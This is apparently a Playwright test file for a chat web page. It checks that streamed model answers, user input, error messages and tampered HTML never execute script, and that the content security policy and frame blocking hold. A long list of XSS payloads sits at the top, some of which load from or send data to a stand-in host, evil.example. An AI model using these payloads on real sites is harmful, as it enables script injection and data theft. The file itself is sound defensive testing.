"""The team's page under attack: nothing that a model, a file or an error says runs, and the policy holds without us."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from e2e.serving import KEY, WITH_KEY, RomServer
from page_support import Seat
from playwright.sync_api import Browser, Route, expect

from local_bedrock import LocalBedrock, reply

SERVER_SETTINGS = WITH_KEY | {"PAGE_ENABLED": True, "CONVERSATIONS_ENABLED": False, "RUNS_ENABLED": False}
# From OWASP's list and DOMPurify's and marked's own tests; each would set window.pwned, open a dialog or ask elsewhere.
PAYLOADS = [
    "<script>window.pwned=1</script>",
    "<script src=https://evil.example/x.js></script>",
    "<img src=x onerror=window.pwned=1>",
    "<img src=https://evil.example/pixel.png>",
    "![rastreador](https://evil.example/pixel.png?q=segredo)",
    "![x](javascript:window.pwned=1)",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:window.pwned=1><text y=20>clique</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1></style></mglyph></table></mtext></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>",
    "<iframe src=javascript:parent.pwned=1></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object data=javascript:window.pwned=1></object>",
    "<embed src=javascript:window.pwned=1>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "<p style=background:url(https://evil.example/x.png)>estilo</p>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<body onload=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>aberto</details>",
    "<video><source onerror=window.pwned=1></video>",
    "<audio src=x onerror=window.pwned=1></audio>",
    "<input autofocus onfocus=window.pwned=1>",
    "<button formaction=javascript:window.pwned=1>enviar</button>",
    "<form action=https://evil.example/><input name=key></form>",
    "<a href=javascript:window.pwned=1>clique</a>",
    "[clique](javascript:window.pwned=1)",
    "[clique](JaVaScRiPt:window.pwned=1)",
    "[clique](&#106;avascript:window.pwned=1)",
    "[clique](java\tscript:window.pwned=1)",
    "[clique](vbscript:msgbox)",
    "[clique](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==)",
    "[clique](blob:https://evil.example/1)",
    "<javascript:window.pwned=1>",
    '[a](https://example.com/" onmouseover="window.pwned=1)',
    "[a](https://example.com/ '\" onmouseover=window.pwned=1 x=\"')",
    '```html" onmouseover="window.pwned=1\n<script>window.pwned=1</script>\n```',
    "`<img src=x onerror=window.pwned=1>`",
    "| a | b |\n|---|---|\n| <img src=x onerror=window.pwned=1> | <script>window.pwned=1</script> |",
    "# <img src=x onerror=window.pwned=1>",
    "<form id=turns><input name=append></form>",
    "<img name=body><img id=getElementById>",
    '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
    "<template><script>window.pwned=1</script></template>",
    '<xmp><p title="</xmp><svg/onload=window.pwned=1>">',
    "<!--><img src=x onerror=window.pwned=1>-->",
    "<![CDATA[<img src=x onerror=window.pwned=1>]]>",
    "<?xml-stylesheet href='javascript:window.pwned=1'?>",
    "{{constructor.constructor('window.pwned=1')()}}",
    "\u202e<script>window.pwned=1</script>",
]
# A script of the server's own, which is let in, and what it may not do all the same.
PROBE = """
window.tried = {};
for (const [name, code] of Object.entries({
  html: () => { document.body.innerHTML = "<b>x</b>"; },
  script: () => { document.createElement("script").textContent = "window.pwned = 1"; },
  eval: () => eval("1"),
  function: () => new Function("return 1")(),
  timer: () => setTimeout("window.pwned = 1", 0),
  policy: () => trustedTypes.createPolicy("own", {createHTML: text => text}),
})) try { code(); window.tried[name] = "done"; } catch (error) { window.tried[name] = error.name; }
"""
FORBIDDEN = (
    "script, iframe, object, embed, img, svg, math, style, link, form, input, video, audio, base, meta, template"
)


@pytest.fixture
def seat(browser: Browser, server: RomServer, bedrock: LocalBedrock) -> Iterator[Seat]:
    """Somebody at the page, who has not signed in."""
    bedrock.reset()
    taken = Seat(browser, server.url)
    yield taken
    taken.close()


def unharmed(seat: Seat) -> None:
    """Nothing ran, nothing was asked of strangers, nothing had to be stopped by the policy."""
    assert seat.page.evaluate("window.pwned") is None
    assert seat.foreign == []
    assert seat.violations() == []
    assert seat.complaints == []
    bad = seat.page.evaluate(
        """forbidden => [...document.querySelectorAll(".prose :not(.cited > a)")]
          .filter(node => node.matches(forbidden) ||
          [...node.attributes].some(a => a.name.startsWith("on") || ["style", "id", "name"].includes(a.name) ||
            (a.name === "href" && !/^(https?|mailto):/.test(a.value)))).map(node => node.outerHTML)""",
        FORBIDDEN,
    )
    assert bad == []


def test_nothing_of_an_answer_runs(seat: Seat, bedrock: LocalBedrock) -> None:
    """Each attack by itself and all together, as they stream; what was meant as text is read as text."""
    page = seat.sign_in(KEY)
    for batch in (PAYLOADS[:18], PAYLOADS[18:36], PAYLOADS[36:]):
        bedrock.script(reply("\n\n".join(batch) + "\n\nfim", delay=0.002))
        seat.ask("Mostre.")
        expect(page.locator(".turn").last.locator(".prose")).to_contain_text("fim")
        for link in page.locator(".turn").last.locator(".prose a").all():
            link.hover()
        unharmed(seat)
    assert page.locator(".prose").first.inner_text().count("<script>window.pwned=1</script>") >= 1


@pytest.mark.parametrize("payload", ["<img src=x onerror=window.pwned=1>", '"><script>window.pwned=1</script>'])
def test_nothing_of_a_question_a_name_an_error_or_a_model_runs(seat: Seat, payload: str) -> None:
    """What the person typed, and what the server says besides the answer's text, is text."""
    page = seat.sign_in(KEY, payload)
    expect(page.locator("#who")).to_have_text(payload)
    seat.ask(payload)
    expect(page.locator(".asked-text")).to_have_text(payload)

    def evil(route: Route) -> None:
        events = [
            ("start", '{"id": "a", "conversation_id": "c", "model": "m", "trace_id": "t", "request_id": "r"}'),
            ("warning", '{"code": "x", "attachment": "X", "text": "X"}'),
            ("thinking", '{"text": "X"}'),
            ("tool_call", '{"id": "1", "name": "X", "label": "X"}'),
            ("tool_result", '{"id": "1", "name": "X", "status": "X", "duration_ms": 1}'),
            ("delta", '{"text": "texto"}'),
            ("citation", '{"document": 0, "name": "X", "page": 1, "quote": "X", "reply": {"start": 0, "end": 1}}'),
            ("done", '{"reply": "texto", "stop_reason": "end_turn", "model": "X", "degraded": true}'),
        ]
        quoted = payload.replace('"', '\\"')
        body = "".join(f"event: {name}\ndata: {data.replace('X', quoted)}\n\n" for name, data in events)
        route.fulfill(content_type="text/event-stream", body=body)

    page.route("**/api/chat", evil)
    seat.ask("Oi")
    last = page.locator(".turn").last
    for place in (".note span", ".step", ".thoughts-text", ".sources cite", ".sources blockquote"):
        expect(last.locator(place).first).to_contain_text(payload)
    expect(last.locator(".notes .note").last).to_contain_text(payload)
    problem = '{"user_message": "X", "code": "X", "request_id": "X", "status": 503}'.replace(
        "X", payload.replace('"', '\\"')
    )
    page.unroute("**/api/chat")
    page.route(
        "**/api/chat",
        lambda route: route.fulfill(
            status=200, content_type="text/event-stream", body=f"event: error\ndata: {problem}\n\n"
        ),
    )
    seat.ask("Oi", "failed")
    expect(page.locator(".note code").last).to_have_text(payload)
    unharmed(seat)


def test_the_policy_holds_where_the_page_does_not(seat: Seat) -> None:
    """Inline scripts, styles and handlers put into the HTML on its way, and strings made into code, do nothing."""
    page = seat.page

    def poisoned(route: Route) -> None:
        answer = route.fetch()
        body = answer.text().replace(
            "</body>",
            "<script>window.pwned = 1</script><p id=styled style='position:fixed'>x</p>"
            "<img src=x onerror='window.pwned = 2'><script src=https://evil.example/x.js></script>"
            "<script src=/assets/probe.js></script></body>",
        )
        route.fulfill(response=answer, body=body)

    page.route(f"{seat.url}/", poisoned)
    page.route(
        "**/assets/probe.js", lambda route: route.fulfill(content_type="text/javascript; charset=utf-8", body=PROBE)
    )
    seat.open()
    page.wait_for_load_state("networkidle")
    assert page.evaluate("window.pwned") is None
    assert page.evaluate("getComputedStyle(document.querySelector('#styled')).position") == "static"
    stopped = seat.violations()
    for directive in (
        "script-src-elem inline",
        "style-src-attr inline",
        "script-src-attr inline",
        "script-src-elem https",
    ):
        assert any(one.startswith(directive) for one in stopped), (directive, stopped)
    tried = page.evaluate("window.tried")
    assert len(tried) == 6
    assert set(tried.values()) <= {"TypeError", "EvalError"}, tried


def test_no_other_page_may_show_it_in_a_frame(seat: Seat) -> None:
    """Neither the page nor an answer of the API."""
    page = seat.page
    page.route(
        "http://localhost/frame",
        lambda route: route.fulfill(
            content_type="text/html",
            body="".join(f"<iframe src={seat.url}{path}></iframe>" for path in ("/", "/health")),
        ),
    )
    page.goto("http://localhost/frame")
    page.wait_for_load_state("networkidle")
    assert [frame.url for frame in page.frames[1:]] == ["chrome-error://chromewebdata/"] * 2
